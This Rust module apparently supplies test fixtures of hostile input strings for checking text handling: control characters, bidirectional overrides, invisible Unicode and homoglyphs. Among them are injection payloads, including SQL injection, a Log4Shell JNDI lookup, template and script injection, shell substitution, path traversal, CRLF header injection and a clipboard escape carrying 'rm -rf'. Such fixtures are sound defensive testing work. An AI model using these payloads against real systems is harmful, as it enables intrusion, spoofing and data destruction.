//! Texts that a terminal, a log, a database, a template or a person may misread.

/// The kind of characters in a text.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Class {
    /// Only printable characters.
    Printable,
    /// Line breaks and tabs.
    Line,
    /// Other control characters.
    Control,
    /// Unicode's bidirectional controls, and its line and paragraph separators.
    Reordering,
}

/// A hostile text.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Hostile {
    pub(crate) what: &'static str,
    text: &'static str,
    times: usize,
    pub(crate) class: Class,
}

impl Hostile {
    pub(crate) fn text(&self) -> String {
        self.text.repeat(self.times)
    }
}

const fn text(what: &'static str, text: &'static str, class: Class) -> Hostile {
    Hostile {
        what,
        text,
        times: 1,
        class,
    }
}

/// Texts of invisible characters.
pub(crate) const UNSEEN: &[&str] = &[
    "\u{200b}",
    "\u{feff}",
    "\u{ad}\u{2060}",
    "\u{3164}",
    "\u{115f}\u{1160}",
    "\u{2800}",
    "\u{180e} \u{fe0f}",
    "\u{e0041}\u{200f}",
];

pub(crate) const HOSTILE: &[Hostile] = &[
    text("NUL", "a\0b", Class::Control),
    text("a NUL at the end", "acme\0", Class::Control),
    text("bell and backspace", "a\u{7}\u{8}b", Class::Control),
    text("a terminal escape", "\u{1b}[2J\u{1b}[31mred\u{1b}[0m", Class::Control),
    text(
        "an escape that sets the clipboard",
        "\u{1b}]52;c;cm0gLXJm\u{7}",
        Class::Control,
    ),
    text("DEL", "a\u{7f}b", Class::Control),
    text("an eight-bit CSI", "\u{9b}31mred", Class::Control),
    text("NEL", "a\u{85}b", Class::Control),
    text("a newline", "a\nb", Class::Line),
    text("a newline at the end", "acme\n", Class::Line),
    text("a header of one's own", "a\r\nset-cookie: b", Class::Line),
    text("a tab", "a\tb", Class::Line),
    text("a right-to-left override", "invoice\u{202e}fdp.exe", Class::Reordering),
    text("an embedding", "\u{202a}a\u{202b}b\u{202c}", Class::Reordering),
    text("a left-to-right override", "a\u{202d}b", Class::Reordering),
    text("an isolate", "\u{2066}a\u{2067}b\u{2068}c\u{2069}", Class::Reordering),
    text("a line separator", "a\u{2028}b", Class::Reordering),
    text("a paragraph separator", "a\u{2029}b", Class::Reordering),
    text("a way up", "../../etc/passwd", Class::Printable),
    text("two dots", "..", Class::Printable),
    text("a way up, encoded", "%2e%2e%2f%2e%2e%2f", Class::Printable),
    text("a way up on Windows", r"..\..\boot.ini", Class::Printable),
    text("SQL", "'; DROP TABLE tokens; --", Class::Printable),
    text("SQL that is true", r#"" OR ""=""#, Class::Printable),
    text("wildcards of SQL", "%_%", Class::Printable),
    text("a format of C", "%s%n%x%99999d", Class::Printable),
    text("a format of Rust", "{}{0:?}{name}", Class::Printable),
    text("a look-up", "${jndi:ldap://x/a}", Class::Printable),
    text("a template", "{{7*7}}<%= 7*7 %>", Class::Printable),
    text("a script", "<script>alert(1)</script>", Class::Printable),
    text("a shell's substitution", "$(id)`id`", Class::Printable),
    text("JSON", r#"{"a":[1,null]}"#, Class::Printable),
    text("a star", "*", Class::Printable),
    text("blanks around", "  acme  ", Class::Printable),
    text("a homoglyph", "\u{430}cme", Class::Printable),
    text(
        "full-width letters",
        "\u{ff41}\u{ff43}\u{ff4d}\u{ff45}",
        Class::Printable,
    ),
    text("letters that lower-case to ASCII", "\u{212a}elvin", Class::Printable),
    text("an upper-case letter that grows", "stra\u{1e9e}e", Class::Printable),
    text("a zero-width space", "ac\u{200b}me", Class::Printable),
    text("a byte order mark", "\u{feff}acme", Class::Printable),
    text("a combining accent", "e\u{301}clair", Class::Printable),
    text(
        "a tower of accents",
        "z\u{341}\u{317}\u{32a}\u{35a}\u{489}",
        Class::Printable,
    ),
    text(
        "a family",
        "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
        Class::Printable,
    ),
    text("a non-character", "a\u{ffff}b", Class::Printable),
    text("private use", "\u{e000}\u{10fffd}", Class::Printable),
    text("Hebrew", "\u{5e9}\u{5dc}\u{5d5}\u{5dd}", Class::Printable),
    Hostile {
        what: "ten thousand characters",
        text: "x",
        times: 10_000,
        class: Class::Printable,
    },
    Hostile {
        what: "ten thousand escapes",
        text: "\u{1b}",
        times: 10_000,
        class: Class::Control,
    },
    Hostile {
        what: "five thousand overrides",
        text: "\u{202e}",
        times: 5_000,
        class: Class::Reordering,
    },
];
